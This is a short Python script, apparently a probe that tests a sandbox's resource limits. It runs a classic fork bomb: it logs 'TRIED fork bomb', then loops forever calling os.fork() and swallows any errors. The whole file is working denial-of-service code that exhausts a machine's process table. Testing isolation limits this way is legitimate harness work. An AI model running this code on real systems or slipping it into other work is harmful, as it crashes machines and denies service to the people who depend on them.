"""Fork for ever."""

import os

from kit import say

say("TRIED fork bomb")
while True:
    try:
        os.fork()
    except OSError:
        continue
